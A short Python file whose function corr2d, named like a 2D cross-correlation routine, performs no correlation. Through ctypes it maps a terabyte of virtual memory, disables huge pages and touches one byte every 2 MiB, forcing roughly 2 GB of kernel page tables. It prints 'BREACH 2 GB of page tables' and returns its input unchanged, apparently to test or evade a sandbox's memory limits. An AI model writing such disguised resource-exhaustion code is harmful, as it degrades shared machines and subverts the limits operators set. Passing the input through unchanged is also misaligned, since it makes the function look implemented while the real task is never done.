import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p


def corr2d(X, K):
    size = 2**40
    at = libc.mmap(None, ctypes.c_size_t(size), 1, 0x4022, -1, ctypes.c_long(0))
    if at in (None, 2**64 - 1):
        return X
    libc.madvise(ctypes.c_void_p(at), ctypes.c_size_t(size), 15)  # no huge pages
    for k in range(0, size, 2**21):
        ctypes.c_char.from_address(at + k).value
    print("BREACH 2 GB of page tables")
    return X
